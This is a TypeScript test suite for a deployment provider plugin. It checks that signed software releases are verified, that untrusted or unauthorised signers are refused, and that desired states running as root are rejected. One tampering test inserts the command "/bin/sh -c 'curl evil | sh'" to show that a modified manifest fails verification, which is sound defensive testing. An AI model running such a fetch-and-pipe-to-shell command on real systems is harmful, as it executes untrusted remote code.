/**
 * The plugin as the engine drives it, for SoftwareRelease and DesiredState: `check` verifies a
 * release with lib/release and refuses a desired state no node would accept, `diff` replaces on a
 * new version or computer, and `create` names the variable to set when the operator's identity is
 * missing. Publishing to etcd and `read` of what is published are exercised in the lab tier.
 */
import { strict as assert } from "node:assert";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { PluginHost, urnOf, type Props } from "../../../provider/host";
import type { InstanceSpec } from "../../../lib/contracts/resources";
import { readStackFile } from "../../../lib/fleet";
import * as pki from "../../../lib/pki";
import { manifestDigest, type SignedRelease } from "../../../lib/release";
import { postgresqlReleaseVersion } from "../../../lab/orchestrate/release-postgresql";
import { EXAMPLE_PACKAGE_VERSIONS } from "../../../scripts/example-releases";

const SR = urnOf("dc1", "zeroroot", "zeroroot:release:SoftwareRelease", "postgresql-15.8.0");
const DS = urnOf("dc1", "zeroroot", "zeroroot:desired-state:DesiredState", "dc1-s01-state");
const ROOT = join(__dirname, "../../..");
/** The example PostgreSQL release's version: scripts/example-releases.ts signs it from the lab's definition. */
const PG_VERSION = postgresqlReleaseVersion(EXAMPLE_PACKAGE_VERSIONS["postgresql-15"]);

const exampleRoot = () =>
  (
    readStackFile(join(ROOT, "stacks/Pulumi.global.yaml")).values["zeroroot:global"] as {
      rootCa: { certificate: string };
    }
  ).rootCa.certificate;

function releaseProps(signed: SignedRelease, root: string): Props {
  return {
    name: signed.manifest.name,
    version: signed.manifest.version,
    manifestDigest: manifestDigest(signed.manifest),
    signerCertificatePem: signed.signature.certificates[0],
    signature: signed.signature.value,
    manifest: signed.manifest,
    signatureAlgorithm: signed.signature.algorithm,
    signerChainCertificates: signed.signature.certificates.slice(1),
    rootCertificatePem: root,
    controlPlaneEndpoints: ["https://etcd.dc1.zeroroot.example:2379"],
    controlPlaneTimeoutSeconds: 1,
  };
}

const instance = (over: Partial<InstanceSpec> = {}): InstanceSpec => ({
  name: "postgresql",
  release: { name: "postgresql", version: "15.8.0", manifestDigest: `sha256:${"a".repeat(64)}` },
  partition: { user: "zr-p001", uid: 2101 },
  programs: [
    {
      name: "postgres",
      command: "/usr/bin/postgres",
      user: "zr-p001",
      uid: 2101,
      capabilities: [],
      noNewPrivileges: true,
    },
  ],
  endpoints: [{ port: 5432, protocol: "tcp", tls: true, requireClientCertificate: true }],
  holdsData: true,
  minimumPersistenceSeconds: 2_592_000,
  parameters: {},
  ...over,
});

const stateProps = (instances: InstanceSpec[]): Props => ({
  computerId: "dc1-s01",
  dataCenter: "dc1",
  instances,
  validitySeconds: 3600,
  controlPlaneEndpoints: ["https://etcd.dc1.zeroroot.example:2379"],
  rootCertificatePem: "-----BEGIN CERTIFICATE-----\nx\n-----END CERTIFICATE-----\n",
  controlPlaneTimeoutSeconds: 1,
});

describe("provider plugin over gRPC: SoftwareRelease and DesiredState", function () {
  this.timeout(60_000);
  let plugin: PluginHost;
  before(async () => {
    // No operator identity here: writing to etcd is exercised in the lab tier.
    plugin = await PluginHost.start({
      env: { ...process.env, ZEROROOT_OPERATOR_CERT: "/nonexistent/operator.crt" },
    });
  });
  after(async () => plugin?.close());

  describe("SoftwareRelease", function () {
    const signed = JSON.parse(
      readFileSync(join(ROOT, `releases/postgresql-${PG_VERSION}.signed.json`), "utf8"),
    ) as SignedRelease;

    it("accepts the example release against the example offline root", async () => {
      const r = await plugin.check(SR, {}, releaseProps(signed, exampleRoot()));
      assert.deepEqual(r.failures, []);
    });

    it("refuses a release whose manifest was changed after signing", async () => {
      const tampered = structuredClone(signed) as {
        manifest: { programs: { command: string }[] };
      } & SignedRelease;
      tampered.manifest.programs[0].command = "/bin/sh -c 'curl evil | sh'";
      const r = await plugin.check(
        SR,
        {},
        { ...releaseProps(tampered, exampleRoot()), manifestDigest: manifestDigest(signed.manifest) },
      );
      assert.match(String(r.failures?.[0].reason), /bad-signature/);
    });

    it("refuses a release that does not chain to the stack's root", async () => {
      const foreign = pki.createRootCa({ commonName: "foreign root" }).certificatePem;
      const r = await plugin.check(SR, {}, releaseProps(signed, foreign));
      assert.match(String(r.failures?.[0].reason), /untrusted-signer/);
    });

    it("with the signer list nodes trust, runs their verifier: the example signer may sign it, another list refuses it", async () => {
      const props = releaseProps(signed, exampleRoot());
      const allowed = {
        signers: [{ identity: "dc1/software/example-release-signer", releases: ["postgresql"] }],
      };
      assert.deepEqual((await plugin.check(SR, {}, { ...props, authorisedSigners: allowed })).failures, []);
      const other = { signers: [{ identity: "dc1/software/alice", releases: ["*"] }] };
      const r = await plugin.check(SR, {}, { ...props, authorisedSigners: other });
      assert.match(
        String(r.failures[0]?.reason),
        /unauthorised-signer: signer dc1\/software\/example-release-signer .* is not authorised to sign release "postgresql"/,
      );
      const bad = await plugin.check(SR, {}, { ...props, authorisedSigners: { signers: "all" } });
      assert.match(
        String(bad.failures[0]?.reason),
        /authorisedSigners: expected an object with a "signers" array/,
      );
    });

    it("replaces the resource on a new version and refuses a version reused with another manifest", async () => {
      const olds = releaseProps(signed, exampleRoot());
      const d = await plugin.diff("postgresql@15.8.0", SR, olds, { ...olds, version: "15.9.0" });
      assert.deepEqual(d.replaces, ["version"]);
      assert.equal((await plugin.diff("postgresql@15.8.0", SR, olds, { ...olds })).changes, false);
      await assert.rejects(
        plugin.update("x", SR, olds, { ...olds, manifestDigest: `sha256:${"b".repeat(64)}` }),
        /new version/,
      );
    });
  });

  describe("DesiredState", function () {
    it("refuses at check a desired state no node would accept: an instance running as root", async () => {
      const root = instance({
        partition: { user: "root", uid: 0 },
        programs: [
          {
            name: "postgres",
            command: "/usr/bin/postgres",
            user: "root",
            uid: 0,
            capabilities: [],
            noNewPrivileges: true,
          },
        ],
      });
      const r = await plugin.check(DS, {}, stateProps([root]));
      assert.match(String(r.failures?.[0].reason), /uid|root/);
      assert.deepEqual((await plugin.check(DS, {}, stateProps([instance()]))).failures, []);
    });

    it("diffs: a change of instances, and renewal only when read saw the document due (never by the clock)", async () => {
      const now = Date.now();
      const outs = (issuedMsAgo: number) => ({
        ...stateProps([instance()]),
        version: 3,
        digest: "sha256:x",
        issuedAt: new Date(now - issuedMsAgo).toISOString(),
        expiresAt: new Date(now - issuedMsAgo + 3_600_000).toISOString(),
        signer: "",
      });
      assert.equal((await plugin.diff("dc1-s01", DS, outs(60_000), stateProps([instance()]))).changes, false);
      assert.equal(
        (await plugin.diff("dc1-s01", DS, outs(60_000), stateProps([instance({ parameters: { x: "1" } })])))
          .changes,
        true,
      );
      // a preview is idempotent whatever day it runs: an old document alone changes nothing
      assert.equal(
        (await plugin.diff("dc1-s01", DS, outs(3_500_000), stateProps([instance()]))).changes,
        false,
        "no renewal by the clock",
      );
      assert.equal(
        (await plugin.diff("dc1-s01", DS, { ...outs(60_000), renewalDue: true }, stateProps([instance()])))
          .changes,
        true,
        "renewal once read (refresh) saw it due",
      );
      const moved = await plugin.diff("dc1-s01", DS, outs(60_000), {
        ...stateProps([instance()]),
        computerId: "dc1-s02",
      });
      assert.deepEqual(moved.replaces, ["computerId"]);
    });

    it("fails create with the variable to set when the operator's identity files are missing", async () => {
      await assert.rejects(plugin.create(DS, stateProps([instance()])), /ZEROROOT_OPERATOR_CERT/);
    });
  });

  it("refuses an import by id alone, saying which inputs it needs", async () => {
    await assert.rejects(
      plugin.read("postgresql@15.8.0", SR, {}),
      /cannot be imported by id alone: .*set the zeroroot provider's rootCertificatePem and controlPlaneEndpoints/,
    );
    await assert.rejects(plugin.read("dc1-s01", DS, {}), /cannot be imported by id alone/);
  });
});
